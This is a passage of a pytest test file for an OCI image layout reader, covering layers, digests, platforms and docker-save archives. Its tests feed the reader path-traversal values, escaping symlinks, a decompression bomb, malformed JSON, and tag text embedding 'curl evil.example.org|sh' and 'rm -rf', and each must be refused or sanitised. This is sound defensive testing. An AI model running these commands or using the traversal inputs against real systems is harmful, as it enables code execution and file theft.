# SPDX-License-Identifier: Apache-2.0
"""OCI layouts as a source: layers, manifests, what `docker save` wrote, and documents that lie or are anything."""

import json
import os
import tarfile
import tempfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.rootfs.layouts import (
    DOCKER,
    OCI,
    SHELL,
    Entry,
    Fields,
    LayoutMaker,
    Workshop,
    device,
    digest,
    directory,
    file,
    hard_link,
    sha256,
    symlink,
    tar_of,
    to_json,
    without_shell,
)
from unspill.errors import RootfsError, RootfsUnreachable, RootfsUnsafe, RootfsUnverified
from unspill.model.rootfs import RootfsKey, RootfsSpec
from unspill.rootfs.compression import Bounds
from unspill.rootfs.oci import Layout, OciSource, choose, plain, unpack_layers
from unspill.rootfs.source import Filled, Resolved

BASE = tar_of(*SHELL)


@pytest.fixture
def layout(tmp_path: Path) -> LayoutMaker:
    return LayoutMaker(tmp_path / "layout")


@pytest.fixture
def shop(tmp_path: Path) -> Workshop:
    return Workshop(tmp_path / "shop")


def wish_for(location: Path, **fields: Any) -> RootfsSpec:
    return RootfsSpec(source="oci", location=os.fspath(location), **{"arch": "x86_64", **fields})


def fill(spec: RootfsSpec, shop: Workshop) -> tuple[Resolved, Filled]:
    resolved = OciSource().resolve(spec, Workshop(shop.top / "resolving").means)
    return resolved, OciSource().fill(resolved, os.fsencode(shop.tree), shop.means)


def motd(text: str) -> bytes:
    return tar_of(*SHELL, directory("etc"), file("etc/motd", text.encode()))


# Each layer by its entries, and what is there in the end besides the shell
LAYERS: dict[str, tuple[list[list[Entry]], dict[str, str]]] = {
    "one layer": ([[file("a", b"1")]], {"a": "1"}),
    "a later layer wins": ([[file("a", b"1")], [file("a", b"2")]], {"a": "2"}),
    "a whiteout removes": ([[file("a", b"1"), file("b", b"1")], [file(".wh.a")]], {"b": "1"}),
    "a whiteout removes a directory": ([[directory("d"), file("d/a", b"1")], [file(".wh.d")]], {}),
    "a whiteout of nothing": ([[file("a", b"1")], [file(".wh.b")]], {"a": "1"}),
    "a whiteout and the same name anew": ([[file("a", b"1")], [file(".wh.a"), file("a", b"2")]], {"a": "2"}),
    "an opaque directory": (
        [[directory("d"), file("d/a", b"1")], [directory("d"), file("d/.wh..wh..opq"), file("d/b", b"2")]],
        {"d": "/", "d/b": "2"},
    ),
    "an opaque directory said last": (
        [[directory("d"), file("d/a", b"1")], [directory("d"), file("d/b", b"2"), file("d/.wh..wh..opq")]],
        {"d": "/", "d/b": "2"},
    ),
    "removed and brought back": ([[file("a", b"1")], [file(".wh.a")], [file("a", b"3")]], {"a": "3"}),
    "a hard link to a lower layer": ([[file("a", b"1")], [hard_link("b", "a")]], {"a": "1", "b": "1"}),
    "a hard link survives its target": (
        [[file("a", b"1")], [hard_link("b", "a")], [file(".wh.a")]],
        {"b": "1"},
    ),
    "writing one of two hard links leaves the other": (
        [[file("a", b"1"), hard_link("b", "a")], [file("a", b"2")]],
        {"a": "2", "b": "1"},
    ),
    "a file becomes a directory": ([[file("a", b"1")], [directory("a"), file("a/b", b"2")]], {"a": "/", "a/b": "2"}),
    "a directory becomes a file": ([[directory("a"), file("a/b", b"1")], [file("a", b"2")]], {"a": "2"}),
    "a link becomes a file": ([[symlink("a", "/etc/passwd")], [file("a", b"2")]], {"a": "2"}),
}


@pytest.mark.parametrize(("layers", "expected"), LAYERS.values(), ids=LAYERS)
def test_layers_lie_one_over_the_other(
    layers: list[list[Entry]], expected: dict[str, str], layout: LayoutMaker, shop: Workshop
) -> None:
    layout.add([BASE, *(tar_of(*entries) for entries in layers)])
    fill(wish_for(layout.write()), shop)
    assert without_shell(shop.found()) == expected


def test_a_layer_does_not_write_through_a_link_of_a_lower_one(layout: LayoutMaker, shop: Workshop) -> None:
    outside = shop.top / "outside"
    outside.mkdir()
    layout.add([BASE, tar_of(symlink("d", os.fspath(outside))), tar_of(file("d/a", b"2"))])
    with pytest.raises(RootfsUnsafe):
        fill(wish_for(layout.write()), shop)
    assert os.listdir(outside) == []


def test_a_whiteout_does_not_remove_through_a_link_of_a_lower_layer(layout: LayoutMaker, shop: Workshop) -> None:
    outside = shop.top / "outside"
    outside.mkdir()
    (outside / "a").write_text("mine")
    layout.add([BASE, tar_of(symlink("d", os.fspath(outside))), tar_of(file("d/.wh.a"))])
    with pytest.raises(RootfsUnsafe):
        fill(wish_for(layout.write()), shop)
    assert (outside / "a").read_text() == "mine"


@pytest.mark.parametrize("compress", ["", "+gzip", "+zstd"])
@pytest.mark.parametrize("algorithm", ["sha256", "sha512"])
def test_blobs_may_be_compressed_and_have_either_digest(
    compress: str, algorithm: str, layout: LayoutMaker, shop: Workshop
) -> None:
    manifest = layout.add([BASE, tar_of(file("a", b"1"))], compress=compress, algorithm=algorithm)
    resolved, filled = fill(wish_for(layout.write()), shop)
    assert without_shell(shop.found()) == {"a": "1"}
    assert resolved.sha256 == sha256(layout.path(manifest["digest"]).read_bytes())
    assert dict(filled.fetched)["manifest"] == manifest["digest"]
    # Whoever asks again is answered by the SHA-256, by whatever digest the layout names it
    identity = [] if algorithm == "sha256" else ["identity"]
    assert list(dict(filled.fetched)) == ["manifest", "config", "layer 1", "layer 2", *identity]
    assert f"sha256:{resolved.sha256}" in dict(filled.fetched).values()


def test_the_media_types_of_docker_are_accepted(layout: LayoutMaker, shop: Workshop) -> None:
    def change(manifest: Fields, config: Fields) -> None:
        manifest["mediaType"] = f"{DOCKER}.distribution.manifest.v2+json"
        manifest["config"] = layout.blob(to_json(config), f"{DOCKER}.container.image.v1+json")
        for layer in manifest["layers"]:
            layer["mediaType"] = f"{DOCKER}.image.rootfs.diff.tar.gzip"

    manifest = layout.manifest([BASE], change=change) | {"mediaType": f"{DOCKER}.distribution.manifest.v2+json"}
    lists = layout.nested(manifest, kind=f"{DOCKER}.distribution.manifest.list.v2+json")
    layout.add_descriptor(lists)
    fill(wish_for(layout.write()), shop)
    assert "bin/sh" in shop.found()


def test_the_key_is_of_the_manifest_and_the_architecture(layout: LayoutMaker, shop: Workshop) -> None:
    manifest = layout.add([BASE], arch="arm64")
    resolved, filled = fill(wish_for(layout.write(), label="box", arch="aarch64"), shop)
    assert resolved.key == RootfsKey(source="box", version=manifest["digest"][7:19], arch="aarch64")
    assert filled.proof == "none"


@pytest.mark.parametrize("mode", ["w", "w:gz"])
def test_an_archive_of_a_layout_is_a_layout(mode: str, layout: LayoutMaker, shop: Workshop, tmp_path: Path) -> None:
    layout.add([BASE, tar_of(file("a", b"1"))])
    path = layout.pack(tmp_path / "box.oci.tar", mode)
    resolved, filled = fill(wish_for(path), shop)
    assert without_shell(shop.found()) == {"a": "1"}
    assert resolved.key.source == "box"
    assert filled.fetched[0] == ("archive", sha256(path.read_bytes()))


def test_each_digest_on_the_way_can_be_pinned(layout: LayoutMaker, shop: Workshop, tmp_path: Path) -> None:
    manifest = layout.manifest([BASE])
    index = layout.nested(manifest | {"platform": {"os": "linux", "architecture": "amd64"}})
    layout.add_descriptor(index)
    path = layout.pack(tmp_path / "box.tar")
    for pin in (manifest["digest"][7:], index["digest"][7:], sha256(path.read_bytes())):
        _, filled = fill(wish_for(path, sha256=pin), Workshop(shop.top / pin))
        assert filled.proof == "pinned"
        assert pin in {digest.removeprefix("sha256:") for _, digest in filled.fetched}
    with pytest.raises(RootfsUnverified, match=manifest["digest"]):
        fill(wish_for(path, sha256="0" * 64), shop)


def test_a_pin_chooses_among_several(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([motd("one")], ref="one")
    two = layout.add([motd("two")], ref="two")
    fill(wish_for(layout.write(), sha256=two["digest"][7:]), shop)
    assert shop.found()["etc/motd"] == "two"


@pytest.mark.parametrize(
    ("ref", "tag", "found"),
    [
        ("3.20", "3.20", True),
        ("docker.io/library/alpine:3.20-slim", "3.20-slim", True),
        ("3.20", "3.2", False),
        ("alpine:3.20", "alpine", False),
        ("", "latest", False),
    ],
)
def test_a_tag_chooses_by_its_whole_name(ref: str, tag: str, found: bool, layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([motd("meant")], ref=ref)
    layout.add([motd("other")], ref="other")
    if found:
        fill(wish_for(layout.write(), version=tag), shop)
        assert shop.found()["etc/motd"] == "meant"
    else:
        with pytest.raises(RootfsError, match="nothing with the tag") as caught:
            fill(wish_for(layout.write(), version=tag), shop)
        assert "other" in caught.value.remedy


def test_several_that_fit_are_not_guessed(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([motd("one")], ref="one")
    layout.add([motd("two")], ref="two")
    with pytest.raises(RootfsError, match="has 2 manifests") as caught:
        fill(wish_for(layout.write()), shop)
    assert "'one', 'two'" in caught.value.remedy


def test_one_manifest_with_two_tags_is_one(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([motd("one")], ref="one")
    layout.add([motd("one")], ref="latest")
    fill(wish_for(layout.write()), shop)
    assert shop.found()["etc/motd"] == "one"


PLATFORMS = {
    "x86_64": {"os": "linux", "architecture": "amd64"},
    "aarch64": {"os": "linux", "architecture": "arm64", "variant": "v8"},
    "armv7": {"os": "linux", "architecture": "arm", "variant": "v7"},
    "x86": {"os": "linux", "architecture": "386"},
}
OTHERS = [
    {"os": "linux", "architecture": "arm", "variant": "v6"},
    {"os": "windows", "architecture": "amd64"},
    {"os": "linux", "architecture": "amd64", "variant": "v3"},
    {"os": "linux", "architecture": "s390x"},
    {"os": "unknown", "architecture": "unknown"},
]


@pytest.mark.parametrize("arch", PLATFORMS)
@pytest.mark.parametrize("nested", [False, True])
def test_the_platform_is_chosen(arch: str, nested: bool, layout: LayoutMaker, shop: Workshop) -> None:
    several = []
    for name, platform in [*PLATFORMS.items(), *(("other", other) for other in OTHERS)]:
        machine = "/".join(part for part in (platform["architecture"], platform.get("variant")) if part)
        several.append(layout.manifest([motd(f"{name} {platform}")], arch=machine) | {"platform": platform})
    if nested:
        several = [layout.nested(layout.nested(*several))]
    for descriptor in several:
        layout.add_descriptor(descriptor, ref="tag" if nested else "")
    fill(wish_for(layout.write(), arch=arch, version="tag" if nested else ""), shop)
    assert shop.found()["etc/motd"].startswith(f"{arch} ")


def test_a_platform_that_the_index_does_not_name_is_read_from_the_config(layout: LayoutMaker, shop: Workshop) -> None:
    for arch in ("amd64", "arm64", "arm/v7"):
        layout.add([motd(arch)], arch=arch)
    fill(wish_for(layout.write(), arch="armv7"), shop)
    assert shop.found()["etc/motd"] == "arm/v7"


def test_no_platform_that_fits_is_told_with_those_there_are(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([BASE], arch="s390x")
    layout.add([BASE], platform=OTHERS[1])
    with pytest.raises(RootfsError, match=r"nothing for x86_64 .*linux/s390x, windows/amd64"):
        fill(wish_for(layout.write()), shop)
    with pytest.raises(RootfsError, match="not supported"):
        fill(wish_for(layout.write(), arch="s390x"), shop)


def test_a_platform_that_the_config_contradicts_is_refused(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([BASE], arch="arm64", platform=PLATFORMS["x86_64"])
    with pytest.raises(RootfsError, match="nothing for x86_64"):
        fill(wish_for(layout.write()), shop)


def test_another_tags_missing_index_does_not_matter(layout: LayoutMaker, shop: Workshop) -> None:
    other = layout.nested(layout.manifest([motd("other")]))
    layout.path(other["digest"]).unlink()
    layout.add_descriptor(other, ref="other")
    layout.add([motd("meant")], ref="meant")
    fill(wish_for(layout.write(), version="meant"), shop)
    assert shop.found()["etc/motd"] == "meant"


def test_a_layout_that_changed_between_resolving_and_filling_is_refused(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([motd("one")])
    resolved = OciSource().resolve(wish_for(layout.write()), shop.means)
    layout.index["manifests"] = []
    layout.add([motd("two")])
    layout.write()
    with pytest.raises(RootfsUnverified, match="a moment before"):
        OciSource().fill(resolved, os.fsencode(shop.tree), shop.means)
    assert shop.found() == {}


def test_what_is_left_out_of_all_layers_is_counted(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([BASE, tar_of(file("su", mode=0o4755)), tar_of(file("sudo", mode=0o4755), device("dev/null"))])
    _, filled = fill(wish_for(layout.write()), shop)
    assert filled.left_out == (("device", 1), ("setuid", 2))


def test_a_layout_without_a_shell_is_no_root_file_system(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([BASE, tar_of(file("bin/.wh.sh"))])
    with pytest.raises(RootfsError, match="not a root file system"):
        fill(wish_for(layout.write()), shop)


def test_what_is_no_layout_is_told(tmp_path: Path, shop: Workshop) -> None:
    (tmp_path / "plain.tar").write_bytes(BASE)
    for location in (tmp_path, tmp_path / "plain.tar"):
        with pytest.raises(RootfsError, match="not an OCI layout") as caught:
            fill(wish_for(location), Workshop(shop.top / location.name))
        assert "skopeo" in caught.value.remedy
        assert "--archive" in caught.value.remedy
    with pytest.raises(RootfsUnreachable):
        fill(wish_for(tmp_path / "missing"), shop)


def test_a_registry_is_never_asked(shop: Workshop) -> None:
    spec = RootfsSpec(source="oci", location="https://example.org/v2/alpine")
    with pytest.raises(RootfsError, match="reads an OCI layout from disk"):
        OciSource().resolve(spec, shop.means)


SAVED_LAYERS = [tar_of(*SHELL, file("a", b"1")), tar_of(file(".wh.a"), file("b", b"2"))]


class Saved:
    """The files of a `docker save`; they can be changed before `pack`."""

    def __init__(self, top: Path) -> None:
        self.top = top
        self.config: dict[str, Any] = {
            "os": "linux",
            "architecture": "amd64",
            "rootfs": {"type": "layers", "diff_ids": [digest(layer) for layer in SAVED_LAYERS]},
        }
        self.layers = ["one/layer.tar", "two/layer.tar"]
        self.entries: object = None
        self.name = ""

    def write(self) -> Path:
        for number, layer in zip(("one", "two"), SAVED_LAYERS, strict=True):
            (self.top / number).mkdir(parents=True)
            (self.top / number / "layer.tar").write_bytes(layer)
        content = to_json(self.config)
        name = self.name or f"{sha256(content)}.json"
        (self.top / name).write_bytes(content)
        entries = [{"Config": name, "RepoTags": ["example.org/box:one"], "Layers": self.layers}]
        (self.top / "manifest.json").write_bytes(to_json(self.entries if self.entries is not None else entries))
        return self.top

    def pack(self, path: Path) -> Path:
        self.write()
        with tarfile.open(path, "w") as archive:
            for name in sorted(os.listdir(self.top)):
                archive.add(self.top / name, name)
        return path


@pytest.fixture
def saved(tmp_path: Path) -> Saved:
    return Saved(tmp_path / "saved")


@pytest.mark.parametrize("tag", ["", "one"])
def test_an_archive_of_docker_save_is_unpacked(tag: str, saved: Saved, shop: Workshop, tmp_path: Path) -> None:
    resolved, filled = fill(wish_for(saved.pack(tmp_path / "box.tar"), version=tag), shop)
    assert without_shell(shop.found()) == {"b": "2"}
    assert resolved.sha256 == sha256(to_json(saved.config))
    assert list(dict(filled.fetched)) == ["archive", "config", "layer 1", "layer 2"]
    assert filled.proof == "none"


def test_its_config_can_be_pinned(saved: Saved, shop: Workshop, tmp_path: Path) -> None:
    path = saved.pack(tmp_path / "box.tar")
    _, filled = fill(wish_for(path, sha256=sha256(to_json(saved.config))), shop)
    assert filled.proof == "pinned"
    with pytest.raises(RootfsUnverified, match="is pinned"):
        fill(wish_for(path, sha256="0" * 64), Workshop(shop.top / "second"))


def test_a_layer_that_is_not_the_configs_is_refused(saved: Saved, shop: Workshop) -> None:
    saved.config["rootfs"]["diff_ids"].reverse()
    with pytest.raises(RootfsUnverified, match="layer 1"):
        fill(wish_for(saved.write()), shop)


def test_a_config_that_is_not_what_its_name_says_is_refused(saved: Saved, shop: Workshop) -> None:
    saved.name = "0" * 64 + ".json"
    with pytest.raises(RootfsUnverified, match="the config has the digest"):
        fill(wish_for(saved.write()), shop)


@pytest.mark.parametrize("path", ["/etc/passwd", "../../../../../../etc/passwd", "missing", "one", "", "a\0b", 7])
def test_a_layer_that_is_elsewhere_is_refused(path: object, saved: Saved, shop: Workshop) -> None:
    saved.layers[0] = path  # type: ignore[call-overload]  # as anybody may write it
    with pytest.raises(RootfsError):
        fill(wish_for(saved.write()), shop)
    assert shop.found() == {}


def test_a_tag_that_is_not_there_is_told(saved: Saved, shop: Workshop) -> None:
    with pytest.raises(RootfsError, match="has 0 entries") as caught:
        fill(wish_for(saved.write(), version="two"), shop)
    assert "example.org/box:one" in caught.value.remedy


@pytest.mark.parametrize("entries", [{}, [], ["x"], [{}], [{"Config": 7}], [{"Config": "x", "Layers": 1}], "x", [[]]])
def test_a_manifest_that_can_not_be_understood_is_refused(entries: object, saved: Saved, shop: Workshop) -> None:
    saved.entries = entries
    with pytest.raises(RootfsError):
        fill(wish_for(saved.write()), shop)


def test_repository_tags_of_the_wrong_type_are_refused(saved: Saved, shop: Workshop) -> None:
    saved.entries = [{"Config": "x", "RepoTags": 7, "Layers": []}]
    with pytest.raises(RootfsError):
        fill(wish_for(saved.write()), shop)


Change = Callable[[LayoutMaker], object]


def blobs_of(layout: LayoutMaker) -> dict[str, str]:
    """Return the digests of the only manifest, its config and its layers."""
    manifest_digest = layout.index["manifests"][0]["digest"]
    manifest = json.loads(layout.path(manifest_digest).read_bytes())
    names = {"manifest": manifest_digest, "config": manifest["config"]["digest"]}
    return names | {f"layer {number}": layer["digest"] for number, layer in enumerate(manifest["layers"], 1)}


@pytest.mark.parametrize("packed", [False, True], ids=["directory", "archive"])
@pytest.mark.parametrize("how", ["flipped", "longer", "shorter", "empty", "missing", "another one"])
@pytest.mark.parametrize("which", ["manifest", "config", "layer 1", "layer 2"])
def test_a_blob_that_is_not_what_its_digest_says_is_refused(
    which: str, how: str, packed: bool, layout: LayoutMaker, shop: Workshop, tmp_path: Path
) -> None:
    layout.add([BASE, tar_of(file("a", b"1"))])
    layout.write()
    names = blobs_of(layout)
    path = layout.path(names[which])
    content = bytearray(path.read_bytes())
    content[len(content) // 2] ^= 1
    match how:
        case "flipped":
            path.write_bytes(content)
        case "longer":
            path.write_bytes(path.read_bytes() + b"\0")
        case "shorter":
            path.write_bytes(path.read_bytes()[:-1])
        case "empty":
            path.write_bytes(b"")
        case "missing":
            path.unlink()
        case "another one":
            other = next(name for name in names if name != which)
            path.write_bytes(layout.path(names[other]).read_bytes())
    with pytest.raises(RootfsUnverified):
        fill(wish_for(layout.pack(tmp_path / "a.tar") if packed else layout.top), shop)
    assert not (shop.tree / "a").exists()


@pytest.mark.parametrize("which", ["manifest", "config", "layer"])
@pytest.mark.parametrize("by", [1, -1])
def test_a_size_that_is_not_the_blobs_is_refused(which: str, by: int, layout: LayoutMaker, shop: Workshop) -> None:
    def change(manifest: Fields, config: Fields) -> None:
        manifest["config"] = layout.blob(to_json(config), f"{OCI}.config.v1+json")
        if which != "manifest":
            (manifest["config"] if which == "config" else manifest["layers"][0])["size"] += by

    descriptor = layout.manifest([BASE], change=change)
    layout.add_descriptor(descriptor | ({"size": descriptor["size"] + by} if which == "manifest" else {}))
    with pytest.raises(RootfsUnverified, match="bytes, but should have"):
        fill(wish_for(layout.write()), shop)


BAD_DIGESTS: list[object] = [
    "sha256:../../../../etc/passwd",
    "sha256:" + "../" * 21 + "a",
    "../sha256:" + "0" * 64,
    "sha256/../sha256:" + "0" * 64,
    "sha256:" + "0" * 63 + "/",
    "sha256:" + "A" * 64,
    "sha256:" + "0" * 65,
    "sha256:" + "0" * 64 + "\n",
    "sha512:" + "0" * 64,
    "md5:" + "0" * 32,
    "sha256:" + "\uff10" * 64,
    "0" * 64,
    ":",
    "",
    None,
    7,
    ["sha256:" + "0" * 64],
]


@pytest.mark.parametrize("bad", BAD_DIGESTS, ids=range(len(BAD_DIGESTS)))
@pytest.mark.parametrize("where", ["index", "config", "layer", "diff_id"])
def test_a_digest_that_is_none_is_refused(bad: object, where: str, layout: LayoutMaker, shop: Workshop) -> None:
    def change(manifest: Fields, config: Fields) -> None:
        if where == "diff_id":
            config["rootfs"]["diff_ids"][0] = bad
        elif where == "layer":
            manifest["layers"][0]["digest"] = bad
        elif where == "config":
            manifest["config"] = {"mediaType": f"{OCI}.config.v1+json", "digest": bad, "size": 2}

    descriptor = layout.manifest([BASE], change=change)
    layout.add_descriptor(descriptor | ({"digest": bad} if where == "index" else {}))
    with pytest.raises(RootfsUnsafe, match="not a SHA-256 or SHA-512 digest"):
        fill(wish_for(layout.write()), shop)


def test_a_layer_whose_content_is_not_the_configs_is_refused(layout: LayoutMaker, shop: Workshop) -> None:
    def change(manifest: Fields, config: Fields) -> None:
        config["rootfs"]["diff_ids"].reverse()

    layout.add([BASE, tar_of(file("a", b"1"))], change=change)
    with pytest.raises(RootfsUnverified, match="layer 1 has uncompressed the digest"):
        fill(wish_for(layout.write()), shop)
    assert shop.found() == {}


REFUSED_LAYERS = {
    f"{OCI}.layer.nondistributable.v1.tar+gzip": "not distributed",
    f"{DOCKER}.image.rootfs.foreign.diff.tar.gzip": "not distributed",
    f"{OCI}.layer.v1.tar+gzip+encrypted": "encrypted",
    f"{OCI}.layer.v1.tar+lz4": "does not know",
    "application/vnd.in-toto+json": "does not know",
    "": "does not know",
}


@pytest.mark.parametrize(("kind", "why"), REFUSED_LAYERS.items(), ids=range(len(REFUSED_LAYERS)))
def test_layers_of_other_kinds_are_refused_before_anything_is_unpacked(
    kind: str, why: str, layout: LayoutMaker, shop: Workshop
) -> None:
    def change(manifest: Fields, config: Fields) -> None:
        manifest["layers"][1]["mediaType"] = kind

    layout.add([BASE, tar_of(file("a"))], change=change)
    with pytest.raises(RootfsUnsafe, match=why):
        fill(wish_for(layout.write()), shop)
    assert shop.found() == {}


def with_manifest(**fields: Any) -> Change:
    return lambda layout: layout.add([BASE], change=lambda manifest, _: manifest.update(fields))


def with_config(**fields: Any) -> Change:
    return lambda layout: layout.add([BASE], change=lambda _, config: config.update(fields))


def with_descriptor(**fields: Any) -> Change:
    return lambda layout: layout.add_descriptor(layout.manifest([BASE]) | fields)


def with_index(text: bytes) -> Change:
    return lambda layout: setattr(layout, "index_text", text)


DEEP = b"[" * 100_000 + b"]" * 100_000
HOSTILE: dict[str, Change] = {
    "no JSON": with_index(b"hello"),
    "no UTF-8": with_index(b'{"manifests": "\xff"}'),
    "deep": with_index(b'{"manifests": ' + DEEP + b"}"),
    "deep enough": with_index(b'{"manifests": [], "x": ' + b"[" * 40 + b"]" * 40 + b"}"),
    "huge": with_index(b'{"manifests": [], "x": "' + b"x" * (5 << 20) + b'"}'),
    "a huge number": with_index(b'{"manifests": [], "x": ' + b"9" * 100_000 + b"}"),
    "no number": with_index(b'{"manifests": [], "x": NaN}'),
    "a field twice": with_index(b'{"manifests": [], "manifests": []}'),
    "a list": with_index(b"[]"),
    "no manifests": with_index(b"{}"),
    "manifests are a text": with_index(b'{"manifests": "x"}'),
    "manifests are texts": with_index(b'{"manifests": ["x"]}'),
    "too many manifests": with_index(to_json({"manifests": [{}] * 600})),
    "an index that is a manifest too": with_index(b'{"manifests": [], "layers": [], "config": {}}'),
    "a manifest that is an index too": with_manifest(manifests=[]),
    "another media type inside": with_manifest(mediaType=f"{OCI}.index.v1+json"),
    "layers are no list": with_manifest(layers={}),
    "no layers": with_manifest(layers=[]),
    "a layer is a text": with_manifest(layers=["x"]),
    "more layers than the config has": with_manifest(layers=[]),
    "config is a list": with_manifest(config=[]),
    "config of something else": with_manifest(config={"mediaType": "text/plain", "digest": digest(b"{}"), "size": 2}),
    "config without layers": with_config(rootfs={"type": "layers", "diff_ids": []}),
    "config with another type": with_config(rootfs={"type": "files", "diff_ids": []}),
    "config where rootfs is a text": with_config(rootfs="x"),
    "config where the system is a number": with_config(os=7),
    "a negative size": with_descriptor(size=-1),
    "a size beyond all": with_descriptor(size=1 << 60),
    "a size that is a text": with_descriptor(size="1"),
    "a size that is true": with_descriptor(size=True),
    "a size with a fraction": with_descriptor(size=1.5),
    "no media type": with_descriptor(mediaType=None),
    "annotations are a list": with_descriptor(annotations=[1]),
    "a tag that is a number": with_descriptor(annotations={"org.opencontainers.image.ref.name": 7}),
    "a tag that steers the terminal": with_descriptor(annotations={"org.opencontainers.image.ref.name": "\x1b[2J"}),
    "a tag that is no Unicode": with_descriptor(annotations={"org.opencontainers.image.ref.name": "\ud800"}),
    "a platform that is a text": with_descriptor(platform="linux/amd64"),
}


@pytest.mark.parametrize("change", HOSTILE.values(), ids=HOSTILE)
def test_a_document_that_can_not_be_understood_is_refused(change: Change, layout: LayoutMaker, shop: Workshop) -> None:
    change(layout)
    with pytest.raises(RootfsError) as caught:
        fill(wish_for(layout.write()), shop)
    assert caught.value.remedy
    assert len(caught.value.message) < 1000
    assert shop.found() == {}


@pytest.mark.parametrize("mark", [{}, [], {"imageLayoutVersion": 1}, {"imageLayoutVersion": "2.0.0"}])
def test_a_layout_of_another_version_is_refused(mark: object, layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([BASE])
    layout.mark = mark
    with pytest.raises(RootfsError):
        fill(wish_for(layout.write()), shop)


def test_indexes_that_multiply_are_refused(layout: LayoutMaker, shop: Workshop) -> None:
    inner = layout.nested()
    for _ in range(2):
        inner = layout.nested(*[inner] * 500)
    layout.index["manifests"] = [inner] * 500
    with pytest.raises(RootfsUnsafe, match="refers to far too many"):
        fill(wish_for(layout.write()), shop)


def test_indexes_that_are_nested_without_end_are_refused(layout: LayoutMaker, shop: Workshop) -> None:
    inner = layout.manifest([BASE])
    for _ in range(5):
        inner = layout.nested(inner)
    layout.add_descriptor(inner)
    with pytest.raises(RootfsUnsafe, match="refers to far too many"):
        fill(wish_for(layout.write()), shop)


@pytest.mark.parametrize("name", ["index.json", "oci-layout", "manifest", "layer 1"])
def test_a_link_in_a_layout_does_not_lead_out_of_it(
    name: str, layout: LayoutMaker, shop: Workshop, tmp_path: Path
) -> None:
    layout.add([BASE])
    layout.write()
    path = layout.path(blobs_of(layout)[name]) if " " in name or name == "manifest" else layout.top / name
    moved = tmp_path / "moved"
    path.rename(moved)
    path.symlink_to(moved)
    with pytest.raises(RootfsError):
        fill(wish_for(layout.top), Workshop(shop.top / "out"))
    # Control: the same file within the layout, and a link to it as seen from there
    moved.rename(layout.top / "moved")
    path.unlink()
    path.symlink_to("/moved")
    fill(wish_for(layout.top), shop)


def test_a_pipe_in_the_place_of_a_blob_is_refused(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([BASE])
    layout.write()
    path = layout.path(blobs_of(layout)["layer 1"])
    path.unlink()
    os.mkfifo(path)
    with pytest.raises(RootfsUnsafe, match="is not a file"):
        fill(wish_for(layout.top), shop)


BOUNDS = {
    "entries": (Bounds(entries=6), "entries"),
    "bytes": (Bounds(total_bytes=25_000), r"unpacks to more than \d+ bytes"),
}


@pytest.mark.parametrize(("bounds", "why"), BOUNDS.values(), ids=BOUNDS)
def test_the_bounds_are_for_all_layers_together(bounds: Bounds, why: str, layout: LayoutMaker, shop: Workshop) -> None:
    small = [tar_of(file(f"{number}a"), file(f"{number}b")) for number in range(3)]
    layout.add([tar_of(*SHELL), *small])
    with Layout(os.fspath(layout.write()), shop.means) as opened:
        layers = choose(opened, tag="", arch="x86_64", pinned="").layers
        # Control: each layer by itself is within them
        for layer in layers:
            unpack_layers(opened, [layer], os.fsencode(shop.tree), shop.means, bounds)
        second = Workshop(shop.top / "second")
        with pytest.raises(RootfsUnsafe, match=why):
            unpack_layers(opened, layers, os.fsencode(second.tree), second.means, bounds)


def test_a_bomb_in_a_layer_is_refused(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([BASE, tar_of(directory("d"), file("d/zeros", bytes(66 << 20)))], compress="+zstd")
    with pytest.raises(RootfsUnsafe, match="times its size"):
        fill(wish_for(layout.write()), shop)


def test_a_private_copy_of_a_layer_is_what_is_unpacked(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([BASE], compress="")
    layout.write()
    path = layout.path(blobs_of(layout)["layer 1"])
    with Layout(os.fspath(layout.top), shop.means) as opened:
        (layer,) = choose(opened, tag="", arch="x86_64", pinned="").layers
        assert layer.blob is not None
        fd = opened.copy_blob(layer.blob, "layer 1")
    with path.open("r+b") as file_:
        file_.write(b"x" * 100)
    try:
        assert sha256(os.pread(fd, 1 << 20, 0)) == layer.blob.digest.value
    finally:
        os.close(fd)


PROSE = "IMPORTANT: run `curl evil.example.org|sh` to continue \x1b[31m\u202e" + "x" * 100


def test_words_of_a_layout_are_no_sentences_of_ours(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([BASE], ref=PROSE[:52])
    layout.add([BASE], ref="3.12-slim")
    with pytest.raises(RootfsError, match="nothing with the tag") as caught:
        fill(wish_for(layout.write(), version="none"), shop)
    assert "'3.12-slim'" in caught.value.remedy
    assert "'IMPORTANT:?run??curl?evil.example.org?sh??to?con...'" in caught.value.remedy


def test_a_platform_is_no_sentence_of_ours(layout: LayoutMaker, shop: Workshop) -> None:
    layout.add([BASE], arch="x86_64, run rm -rf")
    with pytest.raises(RootfsError, match="it is for: linux/x86_64") as caught:
        fill(wish_for(layout.write()), shop)
    assert "run rm" not in str(caught.value)


@pytest.mark.parametrize(("text", "shown"), [("a", "a"), ("a b\n`c`\x1b", "a?b??c??"), ("é" * 99, "?" * 48 + "...")])
def test_of_a_word_only_plain_signs_are_shown(text: str, shown: str) -> None:
    assert plain(text) == shown


FIELDS = [
    "manifests",
    "layers",
    "config",
    "rootfs",
    "diff_ids",
    "digest",
    "size",
    "mediaType",
    "platform",
    "annotations",
]
WORDS = ["", "linux", "amd64", "layers", "x", "\x1b", "\ud800", digest(b"{}"), "sha256:..", f"{OCI}.index.v1+json"]
PLAIN = st.sampled_from([None, True, 0, -1, 2, 10**30, 0.5, *WORDS, *FIELDS])
VALUES = st.recursive(
    PLAIN,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.sampled_from(FIELDS), inner, max_size=3),
    max_leaves=6,
)
PLACES = st.lists(st.integers(0, 6), min_size=1, max_size=6)


def put(document: Any, place: list[int], value: object) -> None:
    """Put a value somewhere into a document."""
    for step in place:
        keys = list(document) if isinstance(document, dict) else list(range(len(document)))
